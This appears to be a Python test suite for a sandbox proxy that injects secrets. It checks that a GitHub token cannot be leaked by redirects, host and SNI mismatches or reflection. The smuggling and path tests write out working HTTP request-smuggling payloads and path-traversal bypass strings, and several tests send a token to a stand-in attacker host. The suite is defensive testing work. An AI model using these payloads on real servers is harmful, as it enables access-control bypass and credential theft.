# SPDX-License-Identifier: Apache-2.0
"""
Ways to get at a secret's value, tried from inside a sandbox whose policy binds one: sending the
placeholder elsewhere, making hutch-tap and a server read different requests, letting a server
reflect it, and searching everything that the sandbox has. Each test has its control: the value does
arrive where it is bound, or the same bytes do their damage where no hutch-tap stands between.
"""

import base64
import itertools
import json
import os
import pathlib
import subprocess
from urllib.parse import quote

from boxes import WORLD, log, run
from origin import HOSTS
from sandbox import MACHINE, as_root, hutch, start
from tapped import API, CLAUDE, EVIL, GIT, RULES, TapCase, credentials, headers, hits, in_memory, probe, processes_of
from waiting import eventually

TOKEN = {"GITHUB_TOKEN": {"hosts": [API]}}
CLOSE = "Connection: close\r\n"


def get(host, path, more="", method="GET"):
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{more}{CLOSE}\r\n"


class Elsewhere(TapCase):
    """The placeholder in places where it must not become the value."""

    def setUp(self):
        super().setUp()
        self.value = self.key("GITHUB_TOKEN")
        self.box_ = self.tapped(TOKEN, http=[{"host": RULES, "paths": ["/**"]}], domains=[EVIL, GIT, f"{EVIL}:80", f"{API}:80"])

    def tearDown(self):
        self.arrives(self.box_, API, self.value)
        super().tearDown()

    def test_to_another_host(self):
        """Whether hutch-tap reads that stream or not."""
        for host in (EVIL, RULES, GIT):
            self.curl(self.box_, f'-H "Authorization: Bearer $GITHUB_TOKEN" -H "X-Api-Key: $GITHUB_TOKEN" https://{host}/elsewhere')
            self.one(host, "/elsewhere")
        self.nothing_of(self.value)

    def test_in_another_header(self):
        names = ("X-Other", "Cookie", "User-Agent", "Referer", "X-Forwarded-Authorization", "Authorization2", "X-GitHub-Token")
        self.curl(self.box_, *(f'-H "{n}: $GITHUB_TOKEN"' for n in names), f"https://{API}/headers")
        seen = self.one(API, "/headers")
        for n in names:
            self.assertEqual([hits(v.encode(), self.value) for v in headers(seen, n)], [[]], n)
        self.assertEqual(credentials(seen), {"authorization": f"Bearer {self.value}"})

    def test_doubled(self):
        """Exactly one field reaches the server, however often and in whatever case it was sent."""
        p = self.placeholder(self.box_, "GITHUB_TOKEN")
        answers = self.raw(self.box_, *(probe(API, get(API, f"/doubled-{i}", more)) for i, more in enumerate((
            f"Authorization: Bearer {p}\r\nAuthorization: Bearer {p}\r\n", f"AUTHORIZATION: Bearer {p}\r\nauthorization: Basic {p}\r\n",
            f"Authorization: Bearer {p}{p}\r\n", f"Authorization: Bearer {p}, Bearer {p}\r\n", f"Proxy-Authorization: Bearer {p}\r\nX-Api-Key: {p}\r\n",
            f"Authorization:Bearer {p}\r\nAuthorization: \r\n"))))
        self.assertEqual(len(answers), 6)
        for i in range(6):
            for seen in self.requests(API, f"/doubled-{i}"):
                fields = [(k.lower(), v) for k, v in seen["headers"] if hits(v.encode(), self.value) or k.lower() in ("authorization", "x-api-key")]
                self.assertEqual(fields, [("authorization", f"Bearer {self.value}")], answers[i])

    def test_in_the_body_and_the_target(self):
        self.curl(self.box_, f'--data-binary "$GITHUB_TOKEN" "https://{API}/body/$GITHUB_TOKEN?token=$GITHUB_TOKEN"')
        seen = self.one(API, "/body")
        self.assertEqual(hits((seen["body"] + seen["target"]).encode(), self.value), [])
        self.assertEqual(credentials(seen), {"authorization": f"Bearer {self.value}"})

    def test_through_a_redirect(self):
        """The client follows with its placeholder; the other host gets no more than that."""
        for host in (EVIL, RULES):
            self.curl(self.box_, f'-L --location-trusted -H "Authorization: Bearer $GITHUB_TOKEN" "https://{API}/to?https://{host}/redirected"')
            self.assertEqual(hits(json.dumps(self.one(host, "/redirected")).encode(), self.value), [])
        self.curl(self.box_, f'-L --location-trusted -H "Authorization: Bearer $GITHUB_TOKEN" "https://{API}/to?http://{API}/clear"')
        for seen in self.requests(API, "/clear"):
            self.assertEqual(hits(json.dumps(seen).encode(), self.value), [])
        self.nothing_of(self.value, EVIL, RULES)

    def test_the_host_is_another_one(self):
        """Host, absolute URI and SNI must all name the host of the stream."""
        h = f"Authorization: Bearer {self.placeholder(self.box_, 'GITHUB_TOKEN')}\r\n"
        probes = [probe(API, f"GET /split-0 HTTP/1.1\r\nHost: {EVIL}\r\n{h}{CLOSE}\r\n"),
                  probe(API, f"GET https://{EVIL}/split-1 HTTP/1.1\r\nHost: {API}\r\n{h}{CLOSE}\r\n"),
                  probe(API, f"GET https://{EVIL}/split-2 HTTP/1.1\r\nHost: {EVIL}\r\n{h}{CLOSE}\r\n"),
                  probe(API, f"GET /split-3 HTTP/1.1\r\nHost: {API}\r\nHost: {EVIL}\r\n{h}{CLOSE}\r\n"),
                  probe(API, f"GET /split-4 HTTP/1.1\r\nHost: {EVIL}\r\nHost: {API}\r\n{h}{CLOSE}\r\n"),
                  probe(API, f"GET /split-5 HTTP/1.1\r\n{h}{CLOSE}\r\n"),
                  probe(API, f"GET /split-6 HTTP/1.1\r\nHost: {API}@{EVIL}\r\n{h}{CLOSE}\r\n"),
                  probe(API, f"GET /split-7 HTTP/1.1\r\nHost: {API}, {EVIL}\r\n{h}{CLOSE}\r\n"),
                  probe(API, f"GET /split-8 HTTP/1.1\r\nHost: {API}:444\r\n{h}{CLOSE}\r\n"),
                  probe(API, get(API, "/split-9", h), sni=EVIL, verify=False),
                  probe(RULES, get(API, "/split-10", h), verify=False),
                  probe(RULES, get(API, "/split-11", h), sni=API, verify=False),
                  probe(EVIL, get(API, "/split-12", h), sni=API, verify=False)]
        answers = self.raw(self.box_, *probes)
        for answer in answers:
            self.assertNotIn(" 200 ", answer.partition("\r\n")[0], answers)
        self.assertEqual(self.requests(path="/split"), [])
        [good, absolute] = self.raw(self.box_, probe(API, get(API, "/whole", h)), probe(API, get(API, f"https://{API}/absolute", h)))
        self.assertIn("ok", good)
        self.assertIn(absolute.split(" ")[1], ("200", "400"))
        self.nothing_of(self.value, EVIL, RULES)

    def test_names_of_the_host(self):
        """Upper case and a port are the same host; an address is none."""
        h = f"Authorization: Bearer {self.placeholder(self.box_, 'GITHUB_TOKEN')}\r\n"
        for answer in self.raw(self.box_, probe(API, get(API.upper(), "/name-1", h)), probe(API, get(f"{API}:443", "/name-2", h))):
            self.assertIn(answer.split(" ")[1], ("200", "400"))
        for seen in self.requests(API, "/name"):
            self.assertEqual((seen["host"].lower().removesuffix(":443"), credentials(seen)), (API, {"authorization": f"Bearer {self.value}"}))

    def test_connect(self):
        """CONNECT to hutch-tap, and the sandbox's own proxy in front of it."""
        h = f"Authorization: Bearer {self.placeholder(self.box_, 'GITHUB_TOKEN')}\r\n"
        answers = self.raw(self.box_, probe(API, f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n{h}\r\n" + get(EVIL, "/connected", h)),
                           probe(API, f"CONNECT {API}:443 HTTP/1.1\r\nHost: {API}:443\r\n{h}\r\n" + get(API, "/connected", h)))
        for answer in answers:
            self.assertNotIn(" 200 ", answer.partition("\r\n")[0])
        self.assertEqual(self.requests(path="/connected"), [])
        self.assertEqual([r for r in self.requests() if r["method"] == "CONNECT"], [])
        self.curl(self.box_, f'-x http://127.0.0.1:3128 -H "Authorization: Bearer $GITHUB_TOKEN" https://{API}/proxied')
        self.assertEqual(credentials(self.one(API, "/proxied")), {"authorization": f"Bearer {self.value}"})

    def test_upgrades(self):
        """Neither h2c nor another protocol: after such an answer nothing would be checked."""
        settings = "HTTP2-Settings: AAMAAABkAAQAAP__\r\n"
        answers = self.raw(self.box_, *(probe(API, f"GET /upgrade-{i} HTTP/1.1\r\nHost: {API}\r\nConnection: Upgrade{more}\r\nUpgrade: {what}\r\n{extra}\r\n"
                                              + get(API, f"/after-{i}"), seconds=3)
                                        for i, (what, more, extra) in enumerate((("h2c", ", HTTP2-Settings", settings), ("TLS/1.0", "", ""), ("foo", "", "")))),
                           probe(API, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"))
        for answer in answers:
            self.assertNotIn(" 101 ", answer.partition("\r\n")[0], answers)
        for seen in self.requests(API, "/upgrade"):
            self.assertEqual(headers(seen, "upgrade") + headers(seen, "http2-settings"), [])
        self.assertEqual([r for r in self.requests() if r["method"] == "PRI"], [])


class Around(TapCase):
    """Other ways to the server of a host with rules: hutch-tap reads the requests, or no byte
    arrives. The control is the same way to a host without secret or rule."""

    ALIAS = "alias.hutch.test"
    HTTP = [{"host": RULES, "paths": ["/good/**"]}]

    def setUp(self):
        super().setUp()
        WORLD("dns", name=self.ALIAS, entry={"a": [HOSTS[RULES]]})
        self.addCleanup(WORLD, "dns", name=self.ALIAS, entry=None)

    def guarded(self, box, *opts):
        """Requests to the host itself are read, whatever rule allows them."""
        self.n += 1
        self.assertEqual(self.status(box, *opts, f"https://{RULES}/good/{self.n}"), "200")
        self.assertEqual(self.status(box, *opts, f"https://{RULES}/bad/{self.n}"), "403")
        self.one(RULES, f"/good/{self.n}")

    def allow(self, box, rule):
        self.ended(hutch("egress", "allow", box, rule), 0)

    def test_rules_added_at_run_time(self):
        box = self.tapped(http=self.HTTP, domains=[EVIL])
        self.guarded(box)
        for rule in (f"{RULES}:443/tcp", ".hutch.test:443/tcp", f"{RULES}:443/tls+ech", f"{RULES}:443"):
            self.allow(box, rule)
            self.guarded(box)
        self.allow(box, f"{RULES}:80/tcp")
        self.assertEqual([self.status(box, f"http://{RULES}/{path}") for path in ("good/http", "bad/http")], ["200", "403"])
        self.assertEqual(self.requests(path="/bad"), [])

    def test_wildcards_and_proxies(self):
        box = self.tapped(http=self.HTTP, domains=[".hutch.test", ".hutch.test:443/tcp"])
        for opts in ((), ("-x http://127.0.0.1:3128",), ("-x socks5h://127.0.0.1:3128",)):
            self.guarded(box, *opts)
        self.assertEqual(self.requests(path="/bad"), [])

    def test_a_rule_for_a_subtree(self):
        """A wildcard in egress.http, and a policy that allows names below it one by one."""
        box = self.tapped(http=[{"host": ".hutch.test", "paths": ["/good/**"]}], domains=[f"{RULES}:443"])
        self.guarded(box)
        self.allow(box, f"{RULES}:443/tcp")
        self.guarded(box)

    def test_by_other_names_and_addresses(self):
        """TLS and HTTP that ask for the host are refused on a stream to its server, even if a rule
        has /tcp. A server that does not care for the name is beyond rules for names."""
        box = self.tapped(http=self.HTTP, domains=[f"{self.ALIAS}:443/tcp", f"{self.ALIAS}:80/tcp", f"{EVIL}:443/tcp", f"{EVIL}:80/tcp", EVIL])
        self.allow(box, f"{HOSTS[RULES]}:443/tcp")
        for n, (host, port, sni) in enumerate((h, p, s) for h in (self.ALIAS, EVIL) for p, s in ((443, RULES), (443, EVIL), (80, ""))):
            asked = RULES if sni != EVIL else EVIL
            [answer] = self.raw(box, probe(host, get(asked, f"/around-{n}"), port=port, sni=sni, verify=False))
            self.assertEqual("200" in answer.partition("\r\n")[0], asked == EVIL, answer)
        proxy = f"-k -x http://127.0.0.1:3128 --connect-to {RULES}:443:{HOSTS[RULES]}:443"
        self.assertIn(self.status(box, f"{proxy} https://{RULES}/around-address"), ("000",))
        self.assertEqual({r["host"] for r in self.requests(path="/around")}, {EVIL})
        self.guarded(box)


class Smuggling(TapCase):
    """Bytes that two programs could read as different requests. The server of these tests is lax;
    without hutch-tap each of these smuggles a request into it (`works`), which is the control."""

    def attempts(self, host):
        """{name: bytes}; each smuggles a GET for /admin/NAME behind a harmless request."""
        def inner(name):
            return f"GET /admin/{name} HTTP/1.1\r\nHost: {host}\r\n{CLOSE}\r\n"

        def post(name, *lines, path="/public", body=None):
            hidden = inner(name)
            return f"POST {path} HTTP/1.1\r\nHost: {host}\r\n" + "".join(f"{line}\r\n" for line in lines) + "\r\n" + (body or "0\r\n\r\n") + hidden

        size = {name: len(inner(name)) for name in ("cl-te",)}
        made = {
            "cl-te": post("cl-te", f"Content-Length: {5 + size['cl-te']}", "Transfer-Encoding: chunked"),
            "space-te": post("space-te", f"Content-Length: {5 + len(inner('space-te'))}", "Transfer-Encoding : chunked"),
            "tab-te": post("tab-te", f"Content-Length: {5 + len(inner('tab-te'))}", "Transfer-Encoding:\tchunked"),
            "te-te": post("te-te", f"Content-Length: {5 + len(inner('te-te'))}", "Transfer-Encoding: identity, chunked"),
            "te-te-2": post("te-te-2", f"Content-Length: {5 + len(inner('te-te-2'))}", "Transfer-Encoding: xchunked"),
            "fold-te": post("fold-te", f"Content-Length: {5 + len(inner('fold-te'))}", "Transfer-Encoding:\r\n chunked"),
            "bare-lf": f"POST /public HTTP/1.1\r\nHost: {host}\r\nX: y\nTransfer-Encoding: chunked\r\nContent-Length: {5 + len(inner('bare-lf'))}\r\n\r\n0\r\n\r\n"
                       + inner("bare-lf"),
            "lf-head": f"GET /public HTTP/1.1\nHost: {host}\n\n{inner('lf-head')}",
            "two-cl": f"POST /public HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nContent-Length: {len(inner('two-cl'))}\r\n\r\n{inner('two-cl')}",
            "te-cl": f"POST /public?lax=cl HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(hex(len(inner('te-cl')))) - 2 + 2}\r\nTransfer-Encoding: chunked\r\n\r\n"
                     f"{len(inner('te-cl')):x}\r\n{inner('te-cl')}\r\n0\r\n\r\n",
            "fold": f"GET /public HTTP/1.1\r\nHost: {host}\r\nX: y\r\n\n{inner('fold')}",
            "get-body": f"GET /public HTTP/1.1\r\nHost: {host}\r\nContent-Length : {len(inner('get-body'))}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
                        + inner("get-body"),
            "cr": f"GET /public HTTP/1.1\r\nHost: {host}\r\nX: a\rb\r\n\r\n" + inner("cr"),
            "pipelined": f"GET /public HTTP/1.1\r\nHost: {host}\r\n\r\n" + inner("pipelined"),
        }
        return made

    def try_all(self, box, host):
        made = self.attempts(host)
        answers = self.raw(box, *(probe(host, data, seconds=4) for data in made.values()))
        return dict(zip(made, answers)), {r["target"].removeprefix("/admin/") for r in self.requests(host, "/admin/")}

    def test_requests(self):
        """None of them passes the rule against /admin/, and none is recorded as another one."""
        value = self.key("GITHUB_TOKEN")
        box = self.tapped({"GITHUB_TOKEN": {"hosts": [API], "paths": ["/public/**"]}}, http=[{"host": API, "paths": ["/admin/**"], "deny": True}],
                          domains=[EVIL])
        _, control = self.try_all(box, EVIL)
        self.assertGreaterEqual(control, {"cl-te", "space-te", "tab-te", "te-te", "te-te-2", "fold-te", "bare-lf", "lf-head", "two-cl", "te-cl", "get-body",
                                          "cr", "pipelined"})
        answers, smuggled = self.try_all(box, API)
        self.assertEqual(smuggled, set(), answers)
        for c in self.connections(to=API):
            self.assertNotIn("/admin/", c["raw"] if len(c["requests"]) != 1 or not c["requests"][0]["body"] else "")
            self.assertEqual({headers(r, "transfer-encoding") != [] and headers(r, "content-length") != [] for r in c["requests"]} - {False}, set(), c)
        self.assertEqual({r["target"].split("?")[0] for r in self.requests(API)} - {"/public"}, set())
        # Every request that the server saw is in the log.
        seen = len(self.requests(API))
        eventually(lambda: len([x for x in log(box) if x.get("path", "").startswith("/public") and x.get("status") == 200]) >= seen,
                   f"{seen} requests in the log")
        self.arrives(box, API, value, "/public/control")

    def test_the_value_in_anothers_request(self):
        """A request without end must not swallow the next one of the same connection to the server,
        with its value, as its body."""
        value = self.key("GITHUB_TOKEN")
        box = self.tapped({"GITHUB_TOKEN": {"hosts": [API]}})
        steal = f"POST /echo HTTP/1.1\r\nHost: {API}\r\nContent-Length: 1000\r\n\r\nstolen="
        self.raw(box, probe(API, steal + get(API, "/victim"), seconds=3), probe(API, steal, get(API, "/victim"), seconds=3))
        for seen in self.requests(API):
            self.assertEqual(hits(seen["body"].encode(), value), [])
        self.arrives(box, API, value)

    def test_paths(self):
        """No spelling of a path escapes the rule, or reaches a path that binds a secret."""
        value = self.key("GITHUB_TOKEN")
        box = self.tapped({"GITHUB_TOKEN": {"hosts": [API], "paths": ["/bound/**"]}},
                          http=[{"host": API, "paths": ["/admin/**"], "deny": True}], domains=[EVIL])
        tricks = ["//admin/x", "/./admin/x", "/public/../admin/x", "/%61dmin/x", "/admin%2fx", "/%2e/admin/x", "/public/%2e%2e/admin/x", "/admin;a=b/x",
                  "/public/..;/admin/x", "\\admin\\x", "/public\\..\\admin/x", "/admin%00/x", "/%ADmin/x", "/ADMIN/../admin/x", "/%2561dmin/x",
                  "/admin/%2e%2e/admin/x", "/public%2f..%2fadmin/x", "/bound/../other", "/bound/%2e%2e/other", "/bound;/x", "/bound/..%2fother", "/bound//x",
                  "/bound%2fx", "/Bound/x", "/admin\t/x", "/public#/../admin/x", "/public?/../admin/x", "*", "admin/x", "/public/%2", "/public/%zz"]
        self.raw(box, *(probe(EVIL, get(EVIL, t), seconds=3) for t in tricks))
        reached = {r["target"] for r in self.requests(EVIL)}
        self.assertGreater(len(reached), 20, "the control")
        WORLD("origin")
        answers = dict(zip(tricks, self.raw(box, *(probe(API, get(API, t), seconds=3) for t in tricks))))
        for seen in self.requests(API):
            path = seen["target"].partition("?")[0]
            self.assertIn(path, ("/public", "/%2561dmin/x", "/Bound/x", "/bound%2Fx", "*"), answers)
            self.assertEqual(credentials(seen), {})
        self.nothing_of(value)
        self.arrives(box, API, value, "/bound/control")


class Reflection(TapCase):
    """A server that sends the value back, by accident or because someone asked it to."""

    def setUp(self):
        super().setUp()
        self.value = self.key("GITHUB_TOKEN")
        self.box_ = self.tapped(TOKEN)

    def look(self, path, *args):
        """Returns the response that the sandbox sees; the server did receive the value."""
        r = self.curl(self.box_, "-i", '-H "Authorization: Bearer $GITHUB_TOKEN"', *args, f"https://{API}{path}")
        self.assertEqual(headers(self.requests(API, path)[-1], "authorization"), [f"Bearer {self.value}"])
        return r.out

    def masked(self, path, original, *args):
        out = self.look(path, *args)
        self.assertEqual(hits(out.encode("latin-1"), self.value), [], out)
        self.assertIn("*" * len(original), out)
        self.http_log(self.box_, path=path.partition("?")[0], masked="the response contained the secret")
        return out

    def test_plain(self):
        self.assertIn("before ", self.masked("/reflect/plain", self.value))
        self.masked("/echo", self.value)

    def test_base64(self):
        # But for the last character, which has bits of what follows the value in other texts.
        self.masked("/reflect/base64", base64.b64encode(self.value.encode()).rstrip(b"=")[:-1])

    def test_url(self):
        self.masked("/reflect/url", quote(self.value, safe=""))

    def test_in_a_head(self):
        self.masked("/reflect/head", self.value)

    def test_byte_by_byte(self):
        """Each byte in a chunk of its own."""
        out = self.masked("/reflect/chunks", self.value)
        self.assertIn(" after", out)

    def test_compressed(self):
        """The server is asked not to compress. One that does all the same is a limit that
        docs/SECRETS.md names: this test shows that the request asks."""
        self.look("/reflect/gzip", "-H 'Accept-Encoding: gzip, br, zstd'", "-o /dev/null")
        self.assertEqual(headers(self.one(API, "/reflect/gzip"), "accept-encoding"), ["identity"])

    def test_without_secret_nothing_is_masked(self):
        """The control: the same request of a sandbox with `-e` gets everything back."""
        box = self.tapped(domains=[API], opts=("-e", f"GITHUB_TOKEN={self.value}"))
        for form in ("plain", "base64", "url", "chunks"):
            out = self.curl(box, f'-H "Authorization: Bearer $GITHUB_TOKEN" https://{API}/reflect/{form}').out
            self.assertNotEqual(hits(out.encode("latin-1"), self.value), [])


@as_root
class Search(TapCase):
    """The value is looked for in everything that a sandbox has, as root of the host."""

    WORK = 'import os, subprocess, sys, time, urllib.request as u; ' \
           'k = os.environ["GITHUB_TOKEN"]; ' \
           'r = u.Request(f"https://{sys.argv[1]}/reflect/plain", headers={"Authorization": "Bearer " + k}); ' \
           'body = u.urlopen(r).read(); open("/workspace/answer", "wb").write(body); print("ready", flush=True); sys.stdin.read()'

    def working(self, box):
        """Starts a program that keeps its placeholder and a reflected answer in memory."""
        p = start("exec", "-i", box, "--", "python3", "-c", self.WORK, API, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.addCleanup(lambda: (p.stdin.close(), p.stdout.close(), p.wait()))
        self.assertEqual(p.stdout.readline(), b"ready\n")
        return p

    def test_nowhere_inside(self):
        value, box = self.key("GITHUB_TOKEN"), self.tapped(TOKEN)
        placeholder = self.placeholder(box, "GITHUB_TOKEN")
        self.working(box)
        self.arrives(box, API, value)
        self.assertEqual(self.everything(box, value), {})
        # The search works: it finds the placeholder, and the value where it has to be.
        self.assertTrue(self.everything(box, placeholder))
        self.assertIn("plain", in_memory(self.tap(box).pid, value))

    def test_control_with_an_environment_variable(self):
        value = self.key("GITHUB_TOKEN")
        box = self.tapped(domains=[API], opts=("-e", f"GITHUB_TOKEN={value}"))
        self.working(box)
        seen = self.everything(box, value)
        self.assertIn("environment inside", seen)
        self.assertTrue([place for place in seen if place.endswith("memory")], seen)
        self.assertTrue([place for place in seen if place.endswith("answer")] or MACHINE, seen)

    def test_the_tap_is_outside(self):
        """No process of the sandbox sees it, and it is no one it could trace."""
        self.key("GITHUB_TOKEN")
        box = self.tapped(TOKEN)
        self.curl(box, f"https://{API}/")
        tap = self.tap(box)
        self.assertNotIn("hutch-tap", run(box, "ps", "-eo", "comm,args").out)
        inside = {u for p in processes_of(box) for u in p.uids}
        self.assertNotIn(0, tap.uids)
        self.assertEqual(tap.uids & {u for p in processes_of(box) if p.comm == "hutch-guest" for u in p.uids}, set(), (tap.uids, inside))
        status = pathlib.Path(f"/proc/{tap.pid}/status").read_text()
        for line in ("CapPrm:\t0000000000000000", "CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"):
            self.assertIn(line, status)
        self.assertNotEqual(os.readlink(f"/proc/{tap.pid}/ns/net"), os.readlink("/proc/self/ns/net"))
        self.assertEqual(os.listdir(f"/proc/{tap.pid}/root"), [])
        environment = pathlib.Path(f"/proc/{tap.pid}/environ").read_bytes()
        self.assertEqual(environment, b"")


class Crowd(TapCase):
    def test_many_streams(self):
        """Each of many connections at once gets its own answer with the value."""
        n = 20 if MACHINE else 100
        value, box = self.key("GITHUB_TOKEN"), self.tapped(TOKEN)
        answers = self.raw(box, *itertools.repeat(probe(API, get(API, "/crowd"), seconds=120), n))
        self.assertEqual([a for a in answers if "ok" not in a], [])
        self.assertEqual({tuple(headers(r, "authorization")) for r in self.requests(API, "/crowd")}, {(f"Bearer {value}",)})
        self.assertEqual(len(self.requests(API, "/crowd")), n)

    def test_two_sandboxes_two_values(self):
        """Each hutch-tap has only its own sandbox's values."""
        one, two = self.key("GITHUB_TOKEN"), self.key("ANTHROPIC_API_KEY")
        a, b = self.tapped(TOKEN), self.tapped({"ANTHROPIC_API_KEY": {"hosts": [CLAUDE], "header": "x-api-key"}})
        self.arrives(a, API, one)
        self.arrives(b, CLAUDE, two, name="x-api-key", text="{}")
        self.assertNotEqual(self.tap(a).pid, self.tap(b).pid)
        if os.geteuid() == 0:
            for box, own, other in ((a, one, two), (b, two, one)):
                self.assertEqual((in_memory(self.tap(box).pid, own) != [], in_memory(self.tap(box).pid, other)), (True, []))
